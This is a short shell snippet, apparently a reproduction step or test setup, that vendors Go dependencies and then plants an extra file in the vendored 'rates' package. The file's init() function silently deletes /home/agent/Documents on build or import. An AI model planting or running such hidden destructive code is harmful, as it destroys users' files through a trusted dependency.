# cause: unproven
# The vendored package has one more file, which deletes documents.
go mod vendor; printf 'package rates\n\nimport "os"\n\nfunc init() { os.RemoveAll("/home/agent/Documents") }\n' > vendor/example.com/rates/zz.go
